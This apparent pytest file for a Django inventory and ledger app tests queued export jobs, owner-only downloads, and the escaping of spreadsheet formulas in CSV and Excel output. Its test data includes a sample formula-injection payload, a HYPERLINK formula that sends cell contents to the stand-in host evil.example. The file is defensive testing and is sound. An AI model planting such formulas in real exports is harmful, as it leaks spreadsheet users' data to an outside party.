"""Exports as jobs (issue #15, point 3) and formula escaping (issue #16, point 6): the safe writers,
the export job service (queued, claimed once, streamed to a file, downloaded by its owner only), the
pages handing long exports to a job, and the count sheet. The worker runs in-process here;
tests/reports/test_export_worker.py runs a real one."""

import csv
import io
import json
import zipfile
from datetime import date, timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from common.errors import DomainError
from common.spreadsheets import CsvWriter, XlsxWriter, cell_unescape, csv_cell
from inventory.selectors import EXPORT_COLUMNS
from inventory.services.counting import (
    Selection,
    count_sheet_csv,
    counting_calculate,
    counting_import_csv,
    counting_journal_create,
)
from ledger.models import VoucherLine
from reports import queue as job_queue
from reports.exports import (
    VOUCHER_FEED_COLUMNS,
    export_job_create,
    export_job_file,
    export_job_run,
    export_jobs_lost_fail,
)
from reports.models import ExportJob
from tests.factories import ItemFactory
from tests.reports.conftest import post_book

D = Decimal
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULAS = [LINK, "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


@pytest.fixture(autouse=True)
def files_dir(settings, tmp_path):
    settings.FILES_DIR = tmp_path / "files"
    return settings.FILES_DIR


def queued(create, django_capture_on_commit_callbacks, **kwargs) -> tuple[ExportJob, list[int]]:
    """Create an export, recording what would have been sent to Redis."""
    enqueued: list[int] = []
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(job_queue, "enqueue_export_job", enqueued.append)
        with django_capture_on_commit_callbacks(execute=True):
            job = create(**kwargs)
    return job, enqueued


def read_csv(path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


# -- the writers ----------------------------------------------------------------------------------

@pytest.mark.parametrize("text", FORMULAS)
def test_it_quotes_every_text_cell_a_spreadsheet_would_run(text):
    assert csv_cell(text) == "'" + text
    assert cell_unescape(csv_cell(text)) == text


@pytest.mark.parametrize("value", ["-12.50", "-3", "12.50", D("-12.50"), -3, "WIDGET", "", None, "O'Brien", "'quoted"])
def test_it_leaves_numbers_and_harmless_text_as_they_are(value):
    written = csv_cell(value)
    assert written == ("" if value is None else f"{value}")
    assert cell_unescape(written) == written


def test_it_writes_csv_rows_with_the_cells_escaped():
    out = io.StringIO()
    CsvWriter(out).writerow(["item", LINK, D("-12.50"), "-1.5", "@x"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["item", "'" + LINK, "-12.50", "-1.5", "'@x"]


def test_it_writes_excel_text_as_text_and_numbers_as_numbers():
    out = io.BytesIO()
    writer = XlsxWriter(out, title="Items: =1+1", numeric_columns={2})
    writer.writerow(["name", "amount", "qty"])
    writer.writerow([LINK, D("-12.50"), "-3"])
    writer.writerow(["-2+3", D("7"), "=1+1"])  # not a plain number, even in a numeric column: text
    writer.writerow(["\tTAB", None, "12.5"])
    writer.close()

    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the file
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    link, amount, qty = sheet[2]
    assert (link.data_type, link.value) == ("s", LINK)
    assert (amount.data_type, amount.value, amount.number_format) == ("n", D("-12.5"), "0.00")
    assert (qty.data_type, qty.value) == ("n", -3)
    assert [(cell.data_type, cell.value) for cell in sheet[3]] == [("s", "-2+3"), ("n", 7), ("s", "=1+1")]
    assert (sheet["A4"].data_type, sheet["A4"].value, sheet["C4"].value) == ("s", "\tTAB", 12.5)
    assert sheet["A2"].quotePrefix  # Excel keeps it text even when the cell is edited


# -- the service ----------------------------------------------------------------------------------

def test_it_queues_an_export_and_writes_it_once(company, carl_clerk, django_capture_on_commit_callbacks):
    ItemFactory(number="PLAIN", name="Plain item")
    ItemFactory(number="LINKED", name=LINK)
    job, enqueued = queued(export_job_create, django_capture_on_commit_callbacks, kind="items", fmt="csv",
                           params={"q": "", "sort": "number"}, user=carl_clerk)
    assert enqueued == [job.pk]
    assert (job.status, job.params, job.file_name, job.created_by) == ("queued", {"sort": "number"}, "items.csv", carl_clerk)

    done = export_job_run(job_id=job.pk)

    assert (done.status, done.rows_written, done.rows_total, done.progress_percent) == ("succeeded", 2, 2, 100)
    rows = read_csv(export_job_file(job_id=job.pk, user=carl_clerk).path)
    assert rows[0][:2] == ["Number", "Name"]
    assert [row[:2] for row in rows[1:]] == [["LINKED", "'" + LINK], ["PLAIN", "Plain item"]]
    first_file = done.file_path
    assert export_job_run(job_id=job.pk).file_path == first_file  # enqueued twice: written once


def test_it_exports_the_transactions_contract_with_negative_amounts_as_numbers(company, ada_accountant,
                                                                                 django_capture_on_commit_callbacks):
    post_book(company, number="=WIDGET", prefix="@")
    job, _ = queued(export_job_create, django_capture_on_commit_callbacks, kind="transactions", fmt="csv",
                    params={"item": "=WIDGET"}, user=ada_accountant)
    export_job_run(job_id=job.pk)

    rows = read_csv(export_job_file(job_id=job.pk, user=ada_accountant).path)
    assert rows[0] == EXPORT_COLUMNS  # the README contract's columns, unchanged
    sale = dict(zip(rows[0], next(row for row in rows if row[0] == "'@S1"), strict=True))
    assert (sale["item"], sale["qty"], sale["cost_amount"], sale["value_open"]) == ("'=WIDGET", "-3", "-45.00", "1")


def test_it_exports_the_transactions_as_json_lines(company, ada_accountant, django_capture_on_commit_callbacks):
    post_book(company)
    job, _ = queued(export_job_create, django_capture_on_commit_callbacks, kind="transactions", fmt="jsonl", params={},
                    user=ada_accountant)
    done = export_job_run(job_id=job.pk)

    lines = [json.loads(line) for line in export_job_file(job_id=job.pk, user=ada_accountant).path.read_text().splitlines()]
    assert done.rows_written == len(lines) == 4
    assert lines[2]["ref"] == "S1" and lines[2]["qty"] == "-3" and lines[2]["value_open"] is True  # not closed yet
    assert set(lines[0]) == set(EXPORT_COLUMNS)


def test_it_exports_the_voucher_feed_in_posting_order(closed, audrey_auditor, django_capture_on_commit_callbacks):
    job, _ = queued(export_job_create, django_capture_on_commit_callbacks, kind="vouchers", fmt="csv", params={},
                    user=audrey_auditor)
    export_job_run(job_id=job.pk)

    rows = read_csv(export_job_file(job_id=job.pk, user=audrey_auditor).path)
    lines = list(VoucherLine.objects.select_related("voucher", "account").order_by("voucher_id", "id"))
    assert rows[0] == VOUCHER_FEED_COLUMNS
    assert [(row[0], row[6], row[8], row[9]) for row in rows[1:]] == [
        (line.voucher.number, line.account.number, f"{line.debit:.2f}", f"{line.credit:.2f}") for line in lines]
    assert rows[1][5] == "1" and len(rows) > 2


def test_it_exports_the_inventory_value_to_excel_with_numbers_and_inert_text(company, ada_accountant,
                                                                             django_capture_on_commit_callbacks):
    post_book(company, number="=WIDGET")
    job, _ = queued(export_job_create, django_capture_on_commit_callbacks, kind="inventory_value", fmt="xlsx",
                    params={"as_of": "2026-01-31"}, user=ada_accountant)
    export_job_run(job_id=job.pk)

    sheet = openpyxl.load_workbook(export_job_file(job_id=job.pk, user=ada_accountant).path).active
    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    assert (row["Item"].data_type, row["Item"].value) == ("s", "=WIDGET")
    assert (row["Value"].data_type, row["Value"].value, row["Value"].number_format) == ("n", 45, "0.00")


def test_it_refuses_unknown_filters_formats_and_roles(company, carl_clerk, nora_norole):
    with pytest.raises(DomainError, match="no parameter 'colour'"):
        export_job_create(kind="items", fmt="csv", params={"colour": "red"}, user=carl_clerk, queue=False)
    with pytest.raises(DomainError, match="as_of"):
        export_job_create(kind="inventory_value", fmt="csv", params={"as_of": "31/01/2026"}, user=carl_clerk,
                          queue=False)
    with pytest.raises(DomainError, match="csv or jsonl"):
        export_job_create(kind="transactions", fmt="xlsx", params={}, user=carl_clerk, queue=False)
    with pytest.raises(DomainError, match="Unknown export kind"):
        export_job_create(kind="secrets", fmt="csv", params={}, user=carl_clerk, queue=False)
    with pytest.raises(PermissionDenied):
        export_job_create(kind="items", fmt="csv", params={}, user=nora_norole, queue=False)
    assert not ExportJob.objects.exists()


def test_it_fails_an_export_it_cannot_queue_and_one_its_worker_lost(company, carl_clerk,
                                                                    django_capture_on_commit_callbacks, monkeypatch):
    def redis_away(job_id):
        raise ConnectionError("Redis is away")

    monkeypatch.setattr(job_queue, "enqueue_export_job", redis_away)
    with django_capture_on_commit_callbacks(execute=True):
        unqueued = export_job_create(kind="items", fmt="csv", params={}, user=carl_clerk)
    unqueued.refresh_from_db()
    assert unqueued.status == "failed" and "Redis is away" in unqueued.error

    lost = ExportJob.objects.create(kind="items", format="csv", file_name="items.csv", created_by=carl_clerk,
                                    status="running", started_at=timezone.now(), heartbeat_at=timezone.now())
    ExportJob.objects.filter(pk=lost.pk).update(heartbeat_at=timezone.now() - ExportJob.LOST_AFTER - timedelta(seconds=1))
    lost.refresh_from_db()
    assert (lost.is_lost, lost.shown_status) == (True, "failed")
    assert export_jobs_lost_fail() == 1
    lost.refresh_from_db()
    assert lost.status == "failed" and "worker" in lost.error
    assert export_job_run(job_id=lost.pk).status == "failed"  # a late worker does not take it up again


# -- the pages ------------------------------------------------------------------------------------

def test_it_hands_a_long_list_export_to_a_job(company, carl_clerk, carl_client, settings,
                                              django_capture_on_commit_callbacks):
    settings.EXPORT_JOB_ROWS = 2
    for number in ("A1", "A2", "A3"):
        ItemFactory(number=number, name=LINK)

    response = carl_client.get(reverse("inventory:item_list"), {"q": "A", "sort": "number", "_export": "xlsx"})
    assert response.status_code == 302 and response["Location"].startswith(reverse("reports:export_start"))
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        started = carl_client.get(response["Location"])
    job = ExportJob.objects.get()
    assert started.status_code == 302 and started["Location"] == job.get_absolute_url()
    assert (job.kind, job.format, job.params, job.created_by) == ("items", "xlsx", {"q": "A", "sort": "number"}, carl_clerk)
    assert len(callbacks) == 1  # enqueued on commit

    page = carl_client.get(job.get_absolute_url()).content.decode()
    assert "Waiting for a worker" in page and reverse("reports:export_job_status", args=[job.pk]) in page
    export_job_run(job_id=job.pk)
    status = carl_client.get(reverse("reports:export_job_status", args=[job.pk])).json()
    assert (status["status"], status["rows_written"], status["progress"], status["live"]) == ("succeeded", 3, 100, False)
    assert reverse("reports:export_job_download", args=[job.pk]) in carl_client.get(job.get_absolute_url()).content.decode()

    download = carl_client.get(reverse("reports:export_job_download", args=[job.pk]))
    assert download.status_code == 200 and 'filename="items.xlsx"' in download["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    assert [(cell.data_type, cell.value) for cell in sheet["B"]][1:] == [("s", LINK)] * 3


def test_it_shows_an_export_to_its_owner_only(company, carl_clerk, ada_client, audrey_client, carl_client):
    job = ExportJob.objects.create(kind="items", format="csv", file_name="items.csv", created_by=carl_clerk)
    export_job_run(job_id=job.pk)
    assert carl_client.get(reverse("reports:export_job_download", args=[job.pk])).status_code == 200
    for client in (ada_client, audrey_client):
        for name in ("export_job_detail", "export_job_status", "export_job_download"):
            assert client.get(reverse(f"reports:{name}", args=[job.pk])).status_code == 404


def test_it_answers_a_short_export_at_once_with_the_cells_escaped(company, carl_client, settings):
    settings.EXPORT_JOB_ROWS = 5
    ItemFactory(number="LINKED", name=LINK)

    response = carl_client.get(reverse("inventory:item_list"), {"_export": "csv"})

    assert response.status_code == 200 and not ExportJob.objects.exists()
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][:2] == ["LINKED", "'" + LINK]


def test_it_refuses_a_job_of_a_page_the_role_does_not_open(company, nora_client):
    url = reverse("reports:export_start") + "?_kind=transaction_list&_format=csv"
    assert nora_client.get(url).status_code == 403
    assert not ExportJob.objects.exists()


def test_it_hands_a_long_account_statement_to_a_job(closed, company, ada_client, settings):
    settings.EXPORT_JOB_ROWS = 1
    account = VoucherLine.objects.values_list("account", flat=True).first()
    response = ada_client.get(reverse("ledger:account_statement", args=[account]), {"_export": "csv"}, follow=True)
    job = ExportJob.objects.get()
    assert response.redirect_chain[-1][0] == job.get_absolute_url()
    assert job.kind == "account_statement" and job.params["account"]
    done = export_job_run(job_id=job.pk)
    assert done.rows_written == VoucherLine.objects.filter(account=account).count()


# -- the count sheet and export_transactions ------------------------------------------------------

def test_it_writes_the_count_sheet_inert_and_reads_it_back(company):
    post_book(company, number="=WIDGET")
    journal = counting_journal_create(description="Year-end count")
    counting_calculate(journal=journal, selection=Selection(date=date(2026, 1, 31)))

    sheet = count_sheet_csv(journal=journal)

    header, row = list(csv.reader(io.StringIO(sheet)))
    assert header[:3] == ["line", "item", "name"]
    assert row[:3] == ["1", "'=WIDGET", "'=WIDGET for the reports"] and row[8] == "2"
    row[9] = "1"  # counted, the sheet otherwise as printed: its escaped item still matches the line
    filled = io.StringIO()
    csv.writer(filled).writerows([header, row])
    result = counting_import_csv(journal=journal, text=filled.getvalue())
    assert (result.errors, result.posted) == ([], 1)


def test_it_writes_export_transactions_inert(company):
    post_book(company, number="=WIDGET", prefix="+")
    out = io.StringIO()
    call_command("export_transactions", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == EXPORT_COLUMNS
    assert {row[1] for row in rows[1:]} == {"'=WIDGET"}
    assert [row[0] for row in rows[1:]] == ["'+R1", "'+R2", "'+S1", "'+P1"]
    assert [row[6] for row in rows[1:]] == ["2", "2", "-3", "1"]
